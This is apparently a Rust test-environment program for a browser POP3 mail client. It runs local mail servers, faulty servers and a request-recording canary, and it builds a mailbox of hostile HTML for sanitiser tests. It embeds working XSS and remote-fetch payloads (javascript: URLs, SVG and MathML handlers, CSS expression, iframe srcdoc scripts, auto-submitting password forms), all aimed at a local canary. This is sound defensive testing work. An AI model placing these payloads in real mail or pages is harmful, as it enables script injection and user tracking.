//! `webpop-test-env`: a private Dovecot and a relay on 127.0.0.1 for the browser tests, plus a
//! small control API the test page calls to check and change the server side.
//!
//! It prints one line, the control API's base URL, and runs until its standard input closes.
//!
//! Usage: `webpop-test-env [COUNT] [--web-root DIR] [--e2e-fixtures DIR] [--hostile-corpus FILE]`
//! - `COUNT` (default 300): messages in the `browser` and `stls` mailboxes.
//! - `--web-root DIR` (or `WEBPOP_TEST_ENV_WEB_ROOT`): the relay also serves `DIR` (the built
//!   `dist/`) at `/`, so the web app and `/relay` are same-origin; `/env` then gives its URL as
//!   `web`.
//! - `--e2e-fixtures DIR` (or `WEBPOP_TEST_ENV_E2E_FIXTURES`): adds the user `e2e` (same
//!   password) whose mailbox holds [`E2E_CORPUS`] generated messages and then every `*.eml` file
//!   in `DIR`, with each `CANARY` in them replaced by the origin of a "canary" HTTP server on
//!   127.0.0.1 and line endings made CRLF. The canary answers everything harmlessly and records
//!   every request: mail that is shown must never reach it. Fixtures should carry newer dates
//!   than the corpus (2023) so that they head the message list.
//! - `--hostile-corpus FILE` (or `WEBPOP_TEST_ENV_HOSTILE_CORPUS`): adds the user `hostile` (same
//!   password) whose mailbox runs the hostile-HTML corpus (`shared/tests/fixtures/hostile/
//!   vectors.txt`: one vector a line, `#` comments, `{TAB}` `{LF}` `{CR}` `{FF}` `{NUL}` spelled
//!   out) through the reader; also starts the canary. See [`hostile_mailbox`]: the vectors are
//!   grouped into `text/html` messages (`HV01`, `HV02`, … in the subject), with every remote host
//!   of the form `*.example` (after `//`, `\\`, `/\` or `\/`, with or without `http:`/`https:`)
//!   rewritten to the canary's `127.0.0.1:port` over `http:`; plus one whole-document attack per
//!   message (`HD01`, …: meta refresh, `<base href>`, forms, SVG, MathML, CSS, linked style
//!   sheets, frames, objects, embeds, `srcset`, media, image inputs, backgrounds, `<a ping>`),
//!   whose remote URLs all point at the canary under `/hd/<name>/`.
//!
//! Also a second POP3 server, [`FaultyPop3`] with [`Config::zero_octet_listing`]: implicit TLS
//! on its own port, its own self-signed certificate, user `faulty`, the `COUNT`-message corpus,
//! every message listed at 0 octets (a hostile server's attempt to get every `RETR` queued at
//! once; the browser's memory test). `/env` gives it as `zero_octets`; the relay allows its
//! port.
//!
//! Two more [`FaultyPop3`] servers for the certificate checks, each with the same user and a
//! small mailbox of [`CERT_MESSAGES`]: `expired_cert`, whose self-signed certificate is past
//! its dates (refused as expired, never offered for trust), and `cert_change`, whose
//! certificate the control API can replace and restore (a pinned certificate that changes).
//!
//! And `big_message`: a [`FaultyPop3`] whose mailbox is one message of [`BIG_MESSAGE_BYTES`],
//! far more than the relay's flow-control window, for the test that a page which stops reading
//! holds at most that window. `/env` gives it with its size and digest.
//!
//! Control API (CORS open, 127.0.0.1 only):
//! - `GET /env`: JSON with the relay URL, POP3 ports, users and password, certificate
//!   fingerprint; with the options above also `web`, `canary` and `e2e` (user, password, message
//!   count, each fixture's file name and subject, the oldest message's subject) and `hostile`
//!   (user, password, vector count, and per message its subject, search token, kind and the
//!   vectors it holds, by their 1-based number and line in the corpus file).
//! - `GET /canary`: JSON list of the requests the canary has seen (method, path, headers of
//!   interest), oldest first.
//! - `GET /digests/{user}`: JSON list of the SHA-256 (hex) of every message in a mailbox.
//! - `POST /add/{user}/{seed}`: adds a generated message; returns its digest.
//! - `POST /password/{user}/{password}`: changes a user's password on the running Dovecot.
//! - `GET /login-delay/stats`: connections, logins and logins refused for LOGIN-DELAY at the
//!   `login_delay` server (a [`FaultyPop3`] that advertises `LOGIN-DELAY 900`).
//! - `POST /relay/stop`, `POST /relay/start`: stops the relay (open sessions are closed at once)
//!   and starts it again on the same port.
//! - `GET /stats/{server}`: connections and logins at a [`FaultyPop3`] server (`zero_octets`,
//!   `login_delay`, `expired_cert`, `cert_change`): a refused certificate means no login.
//! - `POST /cert-change/replace`: from the next connection on, `cert_change` presents a fresh
//!   self-signed certificate; returns its fingerprint (`cert_sha256`).
//! - `POST /cert-change/restore`: `cert_change` presents its first certificate again; returns
//!   its fingerprint.

use std::io::Read as _;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{bail, Context as _, Result};
use axum::extract::{Path, Request, State};
use axum::http::{header, HeaderMap, HeaderValue};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use base64::Engine as _;
use serde_json::{json, Value};
use tokio::net::TcpListener;
use tokio::sync::oneshot;
use tower_http::cors::CorsLayer;
use webpop_testkit::corpus;
use webpop_testkit::dovecot::Dovecot;
use webpop_testkit::faulty_pop3::{self, Config, FaultyPop3};
use webpop_testkit::local_relay::LocalRelay;

/// One mailbox per group of tests, so tests that delete mail do not disturb the others:
/// `browser` and `stls` get the full corpus (the command-line count), the rest 40 messages.
const USERS: [&str; 9] = [
    "browser", "stls", "faults", "policy", "quota", "space", "upgrade", "large", "cancel",
];
const FULL: [&str; 2] = ["browser", "stls"];
const PASSWORD: &str = "browser-test-password";
/// The end-to-end tests' user (only with `--e2e-fixtures`).
const E2E_USER: &str = "e2e";
/// Generated messages in the `e2e` mailbox, before the fixtures.
const E2E_CORPUS: usize = 200;
/// The LOGIN-DELAY the `login_delay` server advertises and enforces, in seconds.
const LOGIN_DELAY_SECONDS: u32 = 900;
/// Messages in the `login_delay` server's mailbox.
const LOGIN_DELAY_MESSAGES: usize = 12;
/// The placeholder in fixture files that becomes the canary's origin.
const CANARY_PLACEHOLDER: &[u8] = b"CANARY";
/// The hostile-HTML end-to-end tests' user (only with `--hostile-corpus`).
const HOSTILE_USER: &str = "hostile";
/// Vectors per message of the hostile mailbox, at most (plus one that may swallow the rest).
const VECTORS_PER_MESSAGE: usize = 15;
/// Messages at each of the certificate servers (`expired_cert`, `cert_change`).
const CERT_MESSAGES: usize = 3;
/// The size of the `big_message` server's one message: six times the relay's flow-control
/// window, and more than the kernel's socket buffers on the way.
const BIG_MESSAGE_BYTES: usize = 24 * 1024 * 1024;

struct Env {
    dovecot: Dovecot,
    /// The server that lists every message at 0 octets.
    zero_octets: FaultyPop3,
    /// A server that advertises LOGIN-DELAY and refuses logins sooner than that.
    login_delay: FaultyPop3,
    /// A server whose self-signed certificate has expired.
    expired_cert: FaultyPop3,
    /// A server whose certificate the control API changes.
    cert_change: FaultyPop3,
    /// A server with one message of BIG_MESSAGE_BYTES.
    big_message: FaultyPop3,
    /// That message's size and digest.
    big_message_size: usize,
    big_message_digest: String,
    relay_addr: SocketAddr,
    relay: Mutex<Option<LocalRelay>>,
    /// What the relay serves: a staging directory of links to `--web-root`'s files
    /// ([`WebRoot`]), where a test can have the sync worker's loader served with a prelude.
    web_root: Option<WebRoot>,
    canary: Option<Canary>,
    e2e: Option<Value>,
    hostile: Option<Value>,
}

/// The web app as the relay serves it: a directory of symbolic links to every file of the built
/// `dist/`, so that the test env can change what one name serves without touching the build.
/// `POST /worker-hold/batch/<n>` serves the sync worker's loader with the test prelude
/// `frontend/e2e/lib/worker-hold.js` in front and writes its parameters to `/e2e-hold.json`;
/// `POST /worker-hold/clear` restores the loader's link and removes the parameters (the prelude
/// is inert without them, even where the service worker kept a copy).
struct WebRoot {
    dist: PathBuf,
    staged: tempfile::TempDir,
}

/// The test prelude (see [`WebRoot`]).
const WORKER_HOLD_PRELUDE: &str = include_str!("../../../frontend/e2e/lib/worker-hold.js");
/// The sync worker's loader, as trunk names it.
const WORKER_LOADER: &str = "webpop-worker_loader.js";
/// The prelude's parameters.
const WORKER_HOLD_PARAMS: &str = "e2e-hold.json";

impl WebRoot {
    fn stage(dist: PathBuf) -> Result<Self> {
        let staged = tempfile::tempdir().context("making the web root's staging directory")?;
        let root = Self { dist, staged };
        root.relink()?;
        Ok(root)
    }

    /// Links every file of `dist` as it is now (a rebuild changes the hashed names), and
    /// nothing else.
    fn relink(&self) -> Result<()> {
        for entry in std::fs::read_dir(self.path())? {
            std::fs::remove_file(entry?.path())?;
        }
        let dist = &self.dist;
        for entry in
            std::fs::read_dir(dist).with_context(|| format!("reading {}", dist.display()))?
        {
            let entry = entry?;
            std::os::unix::fs::symlink(entry.path(), self.path().join(entry.file_name()))
                .context("linking a file of the web root")?;
        }
        Ok(())
    }

    fn path(&self) -> &std::path::Path {
        self.staged.path()
    }

    fn hold(&self, batch: u32) -> Result<()> {
        let loader = std::fs::read_to_string(self.dist.join(WORKER_LOADER))
            .with_context(|| format!("reading {WORKER_LOADER} (is the sync worker built?)"))?;
        self.relink()?;
        let params = json!({ "batch": batch }).to_string();
        std::fs::write(self.path().join(WORKER_HOLD_PARAMS), params)?;
        let target = self.path().join(WORKER_LOADER);
        std::fs::remove_file(&target)?;
        std::fs::write(&target, format!("{WORKER_HOLD_PRELUDE}\n{loader}"))?;
        Ok(())
    }

    fn clear(&self) -> Result<()> {
        self.relink()
    }
}

async fn worker_hold(State(env): State<Arc<Env>>, Path(batch): Path<u32>) -> Json<Value> {
    let done = match &env.web_root {
        Some(root) => root.hold(batch).map_err(|e| format!("{e:#}")),
        None => Err("no --web-root".into()),
    };
    Json(match done {
        Ok(()) => json!({ "ok": true }),
        Err(error) => json!({ "ok": false, "error": error }),
    })
}

async fn worker_hold_clear(State(env): State<Arc<Env>>) -> Json<Value> {
    let done = env.web_root.as_ref().map(WebRoot::clear).transpose();
    Json(json!({ "ok": done.is_ok() }))
}

#[derive(Debug, Default)]
struct Options {
    count: Option<usize>,
    web_root: Option<PathBuf>,
    e2e_fixtures: Option<PathBuf>,
    hostile_corpus: Option<PathBuf>,
    /// The control API's port (0: any). A fixed one lets a fresh env replace a used one under
    /// the same URL, which the browser tests are compiled with: they run once per engine, each
    /// against mailboxes nobody has deleted from yet.
    control_port: u16,
}

fn parse_args() -> Result<Options> {
    let mut o = Options {
        web_root: std::env::var_os("WEBPOP_TEST_ENV_WEB_ROOT")
            .filter(|v| !v.is_empty())
            .map(PathBuf::from),
        e2e_fixtures: std::env::var_os("WEBPOP_TEST_ENV_E2E_FIXTURES")
            .filter(|v| !v.is_empty())
            .map(PathBuf::from),
        hostile_corpus: std::env::var_os("WEBPOP_TEST_ENV_HOSTILE_CORPUS")
            .filter(|v| !v.is_empty())
            .map(PathBuf::from),
        ..Options::default()
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        let (flag, inline) = match arg.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f.to_owned(), Some(v.to_owned())),
            _ => (arg.clone(), None),
        };
        let mut value = |name: &str| -> Result<PathBuf> {
            inline
                .clone()
                .or_else(|| args.next())
                .map(PathBuf::from)
                .with_context(|| format!("{name} wants a path"))
        };
        match flag.as_str() {
            "--web-root" => o.web_root = Some(value("--web-root")?),
            "--e2e-fixtures" => o.e2e_fixtures = Some(value("--e2e-fixtures")?),
            "--hostile-corpus" => o.hostile_corpus = Some(value("--hostile-corpus")?),
            "--control-port" => {
                o.control_port = value("--control-port")?
                    .to_str()
                    .and_then(|p| p.parse().ok())
                    .context("--control-port wants a port number")?;
            }
            "-h" | "--help" => {
                println!(
                    "usage: webpop-test-env [COUNT] [--web-root DIR] [--e2e-fixtures DIR] \
                     [--hostile-corpus FILE] [--control-port PORT]"
                );
                std::process::exit(0);
            }
            _ if o.count.is_none() && !arg.starts_with('-') => {
                o.count = Some(
                    arg.parse()
                        .context("the argument is the number of messages")?,
                );
            }
            _ => bail!("unexpected argument {arg:?} (see --help)"),
        }
    }
    for path in [&mut o.web_root, &mut o.e2e_fixtures, &mut o.hostile_corpus]
        .into_iter()
        .flatten()
    {
        *path = path
            .canonicalize()
            .with_context(|| format!("no such file or directory: {}", path.display()))?;
    }
    Ok(o)
}

/// A small HTTP server that answers every request harmlessly and records it.
struct Canary {
    addr: SocketAddr,
    log: Arc<Mutex<Vec<Value>>>,
}

impl Canary {
    async fn start() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let addr = listener.local_addr()?;
        let log = Arc::new(Mutex::new(Vec::new()));
        let app = Router::new()
            .fallback(canary_hit)
            .with_state(Arc::clone(&log));
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Ok(Self { addr, log })
    }

    fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }
}

/// A 1×1 transparent PNG.
const PIXEL_PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4,
    0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00,
    0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae,
    0x42, 0x60, 0x82,
];

async fn canary_hit(State(log): State<Arc<Mutex<Vec<Value>>>>, request: Request) -> Response {
    let headers = request.headers();
    let h = |name: header::HeaderName| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned)
    };
    let fetch_dest = headers
        .get("sec-fetch-dest")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    let path = request.uri().to_string();
    let millis = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0);
    eprintln!("webpop-test-env: canary: {} {path}", request.method());
    log.lock().unwrap().push(json!({
        "method": request.method().as_str(),
        "path": path,
        "referer": h(header::REFERER),
        "origin": h(header::ORIGIN),
        "user_agent": h(header::USER_AGENT),
        "fetch_dest": fetch_dest,
        "time_ms": millis,
    }));
    let path = request.uri().path();
    let (content_type, body): (&str, &[u8]) = if path.ends_with(".png") || path.ends_with(".gif") {
        ("image/png", PIXEL_PNG)
    } else if path.ends_with(".css") {
        ("text/css", b"/* canary */\n")
    } else if path.ends_with(".js") {
        ("text/javascript", b"/* canary */\n")
    } else {
        ("text/plain; charset=utf-8", b"canary\n")
    };
    let mut headers = HeaderMap::new();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    (headers, body.to_vec()).into_response()
}

async fn canary_log(State(env): State<Arc<Env>>) -> Json<Value> {
    match &env.canary {
        Some(c) => Json(Value::Array(c.log.lock().unwrap().clone())),
        None => Json(json!([])),
    }
}

/// The fixture messages in `dir` (`*.eml`, by file name), with `CANARY` replaced by `origin` and
/// every line ending made CRLF.
fn load_fixtures(dir: &std::path::Path, origin: &str) -> Result<Vec<(String, Vec<u8>)>> {
    let mut names: Vec<PathBuf> = std::fs::read_dir(dir)
        .with_context(|| format!("reading {}", dir.display()))?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "eml") && p.is_file())
        .collect();
    names.sort();
    if names.is_empty() {
        bail!("{} has no .eml files", dir.display());
    }
    names
        .into_iter()
        .map(|path| {
            let raw =
                std::fs::read(&path).with_context(|| format!("reading {}", path.display()))?;
            let name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            Ok((
                name,
                crlf(&replace(&raw, CANARY_PLACEHOLDER, origin.as_bytes())),
            ))
        })
        .collect()
}

/// One whole-document attack of the hostile mailbox: a search token's suffix, a name, and the
/// HTML (with `CANARY` for the canary's origin). Every remote URL is under `CANARY/hd/<name>/`.
const HOSTILE_DOCUMENTS: &[(&str, &str)] = &[
    (
        "meta-refresh",
        r#"<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0; url=CANARY/hd/meta-refresh/target">
<meta http-equiv="refresh" content="1;url=javascript:top.__pwned='meta-refresh'">
<meta http-equiv="Link" content="<CANARY/hd/meta-refresh/link-header.css>; rel=stylesheet">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
</head><body><h1>HDTOKEN: meta refresh</h1><p>This page would like to take you elsewhere.</p></body></html>"#,
    ),
    (
        "base-href",
        r#"<!DOCTYPE html><html><head><base href="CANARY/hd/base-href/"><base target="_top"></head>
<body><h1>HDTOKEN: base href</h1>
<img src="relative.png" alt="relative image"><img src="/absolute-path.png" alt="absolute path">
<a href="relative-link">A relative link</a>
<form action="relative-form"><input name="q"><button>Search</button></form>
<script src="relative.js"></script></body></html>"#,
    ),
    (
        "form-action",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: form action</h1>
<form id="f" action="CANARY/hd/form-action/submit" method="post" target="_top">
<input name="password" type="password" value="hunter2" autofocus onfocus="this.form.submit()">
<input type="submit" value="Send the form">
<button formaction="CANARY/hd/form-action/formaction">Send it elsewhere</button>
<button formaction="javascript:top.__pwned='formaction'">Run the button</button>
</form>
<isindex action="CANARY/hd/form-action/isindex">
<input form="f" type="image" src="CANARY/hd/form-action/input-image.png" alt="image submit">
</body></html>"#,
    ),
    (
        "svg-onload",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: SVG</h1>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="60" onload="top.__pwned='svg onload'">
<script>top.__pwned = 'svg script'; alert('svg script')</script>
<script href="CANARY/hd/svg-onload/script.js"></script>
<image href="CANARY/hd/svg-onload/image.png" width="20" height="20"/>
<image xlink:href="CANARY/hd/svg-onload/xlink-image.png" width="20" height="20"/>
<use href="CANARY/hd/svg-onload/use.svg#x"/>
<feImage href="CANARY/hd/svg-onload/feimage.png"/>
<a xlink:href="javascript:top.__pwned='svg link'"><text x="0" y="50">SVG link</text></a>
<animate attributeName="href" values="javascript:top.__pwned='animate'"/>
<set attributeName="onmouseover" to="top.__pwned='set'"/>
<foreignObject width="100" height="50"><body onload="top.__pwned='foreignObject'"><img src="CANARY/hd/svg-onload/foreign.png"></body></foreignObject>
</svg></body></html>"#,
    ),
    (
        "math-href",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: MathML</h1>
<math href="javascript:top.__pwned='math href'"><mi>x</mi><mo>+</mo><mn>1</mn></math>
<math><mi xlink:href="CANARY/hd/math-href/mi">y</mi></math>
<math><maction actiontype="statusline#CANARY/hd/math-href/maction" xlink:href="javascript:top.__pwned='maction'">z</maction></math>
<math><mtext><table><mglyph><style><img src="CANARY/hd/math-href/mglyph.png" onerror="top.__pwned='mglyph'"></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src="CANARY/hd/math-href/annotation.png" onerror="top.__pwned='annotation'"></annotation-xml></math>
</body></html>"#,
    ),
    (
        "css",
        r#"<!DOCTYPE html><html><head><style>
@import url("CANARY/hd/css/import.css");
@import 'CANARY/hd/css/import-quoted.css';
@font-face { font-family: "Remote"; src: url(CANARY/hd/css/font.woff); }
body { background-image: url(CANARY/hd/css/body-background.png); font-family: "Remote", serif; }
h1 { background: image-set(url(CANARY/hd/css/image-set.png) 1x); }
.x { width: expression(top.__pwned = 'expression'); behavior: url(CANARY/hd/css/behavior.htc); }
.y { background: u\72l(CANARY/hd/css/escaped.png); cursor: url(CANARY/hd/css/cursor.png), auto; }
li { list-style-image: url(CANARY/hd/css/list-style.png); }
</style></head><body><h1>HDTOKEN: CSS</h1>
<div class="x y" style="background: url('CANARY/hd/css/inline.png'); border-image: url(CANARY/hd/css/border.png) 30;">Styled</div>
<div style="background-image: url(&quot;CANARY/hd/css/entity-quoted.png&quot;)">Entities</div>
<div style="@import 'CANARY/hd/css/inline-import.css'; width: expression(alert(1))">Import</div>
<ul><li>A list item</li></ul>
</body></html>"#,
    ),
    (
        "link-stylesheet",
        r#"<!DOCTYPE html><html><head>
<link rel="stylesheet" href="CANARY/hd/link-stylesheet/style.css">
<link rel="preload" as="image" href="CANARY/hd/link-stylesheet/preload.png">
<link rel="prefetch" href="CANARY/hd/link-stylesheet/prefetch">
<link rel="prerender" href="CANARY/hd/link-stylesheet/prerender">
<link rel="modulepreload" href="CANARY/hd/link-stylesheet/module.js">
<link rel="icon" href="CANARY/hd/link-stylesheet/icon.png">
<link rel="import" href="CANARY/hd/link-stylesheet/import.html">
<link rel="preconnect" href="CANARY/">
</head><body><h1>HDTOKEN: linked style sheets</h1><p>Styled from afar.</p></body></html>"#,
    ),
    (
        "iframe-srcdoc",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: frames</h1>
<iframe srcdoc="&lt;script&gt;top.__pwned='srcdoc'; alert(1)&lt;/script&gt;&lt;img src='CANARY/hd/iframe-srcdoc/inner.png'&gt;"></iframe>
<iframe src="CANARY/hd/iframe-srcdoc/src.html"></iframe>
<iframe src="javascript:top.__pwned='iframe javascript'"></iframe>
<iframe src="data:text/html,&lt;script&gt;top.__pwned='iframe data'&lt;/script&gt;"></iframe>
<frameset><frame src="CANARY/hd/iframe-srcdoc/frame.html"></frameset>
<portal src="CANARY/hd/iframe-srcdoc/portal.html"></portal>
<fencedframe src="CANARY/hd/iframe-srcdoc/fenced.html"></fencedframe>
</body></html>"#,
    ),
    (
        "object-data",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: object</h1>
<object data="CANARY/hd/object-data/data.html" type="text/html" width="50" height="50"></object>
<object data="CANARY/hd/object-data/image.png" type="image/png"></object>
<object type="application/x-shockwave-flash"><param name="movie" value="CANARY/hd/object-data/movie.swf"></object>
<object data="javascript:top.__pwned='object'"></object>
<applet code="X.class" codebase="CANARY/hd/object-data/applet/"></applet>
</body></html>"#,
    ),
    (
        "embed-src",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: embed</h1>
<embed src="CANARY/hd/embed-src/embed.svg" type="image/svg+xml">
<embed src="CANARY/hd/embed-src/embed.html">
<embed src="javascript:top.__pwned='embed'">
<embed code="CANARY/hd/embed-src/code.swf" allowscriptaccess="always">
</body></html>"#,
    ),
    (
        "img-srcset",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: remote images</h1>
<p><img src="CANARY/hd/img-srcset/src.png" alt="A remote image"></p>
<p><img srcset="CANARY/hd/img-srcset/1x.png 1x, CANARY/hd/img-srcset/2x.png 2x" alt="A srcset image"></p>
<p><img src="CANARY/hd/img-srcset/with-srcset.png" srcset="CANARY/hd/img-srcset/w.png 100w" sizes="50px" alt="Src and srcset"></p>
<p><picture><source srcset="CANARY/hd/img-srcset/picture-source.png"><img src="CANARY/hd/img-srcset/picture-img.png" alt="A picture"></picture></p>
<p><img src="CANARY/hd/img-srcset/onerror.png" onerror="top.__pwned='img onerror'" alt="A handler"></p>
<p><img src="CANARY/hd/img-srcset/lowsrc.png" lowsrc="CANARY/hd/img-srcset/lowsrc-attr.png" longdesc="CANARY/hd/img-srcset/longdesc" alt="Old attributes"></p>
</body></html>"#,
    ),
    (
        "video-poster",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: video</h1>
<video poster="CANARY/hd/video-poster/poster.png" src="CANARY/hd/video-poster/src.mp4" autoplay preload="auto" width="120">
<source src="CANARY/hd/video-poster/source.webm" type="video/webm">
<track kind="captions" src="CANARY/hd/video-poster/track.vtt" default>
</video>
<video src="x" onerror="top.__pwned='video onerror'"></video>
</body></html>"#,
    ),
    (
        "audio-src",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: audio</h1>
<audio src="CANARY/hd/audio-src/src.mp3" autoplay preload="auto" controls></audio>
<audio autoplay><source src="CANARY/hd/audio-src/source.ogg" type="audio/ogg"></audio>
<bgsound src="CANARY/hd/audio-src/bgsound.mid">
</body></html>"#,
    ),
    (
        "input-image",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: image input</h1>
<input type="image" src="CANARY/hd/input-image/input.png" alt="An image button">
<input type="IMAGE" src="javascript:top.__pwned='input image'">
<button><img src="CANARY/hd/input-image/button-image.png" alt="In a button"></button>
</body></html>"#,
    ),
    (
        "body-background",
        r#"<!DOCTYPE html><html><body background="CANARY/hd/body-background/body.png" onload="top.__pwned='body onload'">
<h1>HDTOKEN: body background</h1><p>Wallpaper from afar.</p></body></html>"#,
    ),
    (
        "table-background",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: table background</h1>
<table background="CANARY/hd/table-background/table.png" width="200">
<tr background="CANARY/hd/table-background/tr.png"><td background="CANARY/hd/table-background/td.png">A cell</td>
<th background="CANARY/hd/table-background/th.png">A head</th></tr></table>
<div background="CANARY/hd/table-background/div.png">A div</div>
</body></html>"#,
    ),
    (
        "a-ping",
        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: link with ping</h1>
<p><a href="CANARY/hd/a-ping/followed" ping="CANARY/hd/a-ping/ping CANARY/hd/a-ping/ping2">Follow this link</a></p>
<p><a href="javascript:top.__pwned='a href'">A script link</a></p>
<p><area href="CANARY/hd/a-ping/area" ping="CANARY/hd/a-ping/area-ping"></p>
</body></html>"#,
    ),
];

/// The hostile mailbox for the corpus `text` (see the module docs), remote URLs at `canary`
/// (an origin like `http://127.0.0.1:1234`). Returns the messages and their description for
/// `/env`.
fn hostile_mailbox(text: &str, canary: &str) -> Result<(Vec<Vec<u8>>, Value)> {
    let host = canary
        .strip_prefix("http://")
        .context("the canary's origin is http://host:port")?;
    // (1-based number, line in the file, the vector with its placeholders expanded)
    let vectors: Vec<(usize, usize, String)> = text
        .lines()
        .enumerate()
        .filter(|(_, l)| !l.is_empty() && !l.starts_with('#'))
        .enumerate()
        .map(|(n, (line, v))| {
            let v = v
                .replace("{TAB}", "\t")
                .replace("{LF}", "\n")
                .replace("{CR}", "\r")
                .replace("{FF}", "\u{c}")
                .replace("{NUL}", "\0");
            (n + 1, line + 1, to_canary(&v, host))
        })
        .collect();
    if vectors.is_empty() {
        bail!("the hostile corpus has no vectors");
    }
    // A vector that leaves the parser swallowing what follows (inside a tag, a comment, a
    // raw-text element or foreign content) goes last in its message, so that every other
    // vector is still read as markup.
    let (greedy, plain): (Vec<_>, Vec<_>) = vectors.iter().partition(|(_, _, v)| swallows(v));
    let groups = plain
        .len()
        .div_ceil(VECTORS_PER_MESSAGE)
        .max(greedy.len())
        .max(1);
    let per_group = plain.len().div_ceil(groups).max(1);
    let mut chunks: Vec<Vec<&(usize, usize, String)>> =
        plain.chunks(per_group).map(|c| c.to_vec()).collect();
    chunks.resize(groups, Vec::new());
    for (chunk, g) in chunks.iter_mut().zip(greedy) {
        chunk.push(g);
    }

    let mut mail = Vec::new();
    let mut listed = Vec::new();
    for (i, chunk) in chunks.iter().enumerate() {
        let token = format!("HV{:02}", i + 1);
        let numbers: Vec<usize> = chunk.iter().map(|(n, _, _)| *n).collect();
        let subject = format!(
            "{token} hostile vectors {}",
            numbers
                .iter()
                .map(usize::to_string)
                .collect::<Vec<_>>()
                .join(" ")
        );
        let mut html = format!(
            "<!DOCTYPE html>\n<html><head><title>{token}</title></head><body>\n\
             <h1>{token}: hostile vectors</h1>\n"
        );
        for (n, _, v) in chunk {
            html.push_str(&format!("<div data-vector=\"{n}\">{v}</div>\n"));
        }
        html.push_str("</body></html>\n");
        mail.push(hostile_message(&subject, mail.len(), &html));
        listed.push(json!({
            "token": token,
            "subject": subject,
            "kind": "vectors",
            "vectors": numbers,
            "lines": chunk.iter().map(|(_, line, _)| *line).collect::<Vec<_>>(),
        }));
    }
    for (i, (name, html)) in HOSTILE_DOCUMENTS.iter().enumerate() {
        let token = format!("HD{:02}", i + 1);
        let subject = format!("{token} hostile document {name}");
        let html = html.replace("HDTOKEN", &token).replace("CANARY", canary);
        mail.push(hostile_message(&subject, mail.len(), &html));
        listed.push(json!({
            "token": token,
            "subject": subject,
            "kind": "document",
            "name": name,
            "canary_prefix": format!("/hd/{name}/"),
        }));
    }
    for (i, (name, file, content_type, payload)) in HOSTILE_ATTACHMENTS.iter().enumerate() {
        let token = format!("HA{:02}", i + 1);
        let subject = format!("{token} hostile attachment {name}");
        let payload = payload
            .replace("SCRIPT", ATTACHMENT_SCRIPT)
            .replace("HATOKEN", &token)
            .replace("HANAME", name)
            .replace("CANARY", canary);
        let body = format!(
            "<!DOCTYPE html><html><body><h1>{token}: hostile attachment</h1>\
             <p>Open the attached {file}.</p></body></html>"
        );
        mail.push(hostile_attachment_message(
            &subject,
            mail.len(),
            &body,
            file,
            content_type,
            payload.as_bytes(),
        ));
        listed.push(json!({
            "token": token,
            "subject": subject,
            "kind": "attachment",
            "name": name,
            "file": file,
            "marker": format!("pwned-{name}"),
            "canary_prefix": format!("/ha/{name}/"),
        }));
    }
    let info = json!({
        "user": HOSTILE_USER,
        "password": PASSWORD,
        "vectors": vectors.len(),
        "count": mail.len(),
        "messages": listed,
    });
    Ok((mail, info))
}

/// Whether the parser is left swallowing what follows `v`: inside a tag, an open comment, an
/// open raw-text, RCDATA or plaintext element, or open foreign content or tables.
fn swallows(v: &str) -> bool {
    let low = v.to_ascii_lowercase();
    if low.contains("<plaintext") || low.rfind('<') > low.rfind('>') {
        return true;
    }
    if let Some(open) = low.rfind("<!--") {
        if !low[open + 4..].contains("-->") {
            return true;
        }
    }
    const CONTAINERS: &[&str] = &[
        "script", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title",
        "svg", "math", "select", "table", "template", "frameset", "object",
    ];
    CONTAINERS.iter().any(|name| {
        let opens = low
            .match_indices(&format!("<{name}"))
            .filter(|(i, _)| {
                // `<svg` but not `<svgfoo`: the name ends at a space, `/`, `>` or a control.
                low[i + name.len() + 1..]
                    .chars()
                    .next()
                    .is_none_or(|c| !c.is_ascii_alphanumeric() && c != '-')
            })
            .count();
        let closes = low.matches(&format!("</{name}")).count();
        opens > closes
    })
}

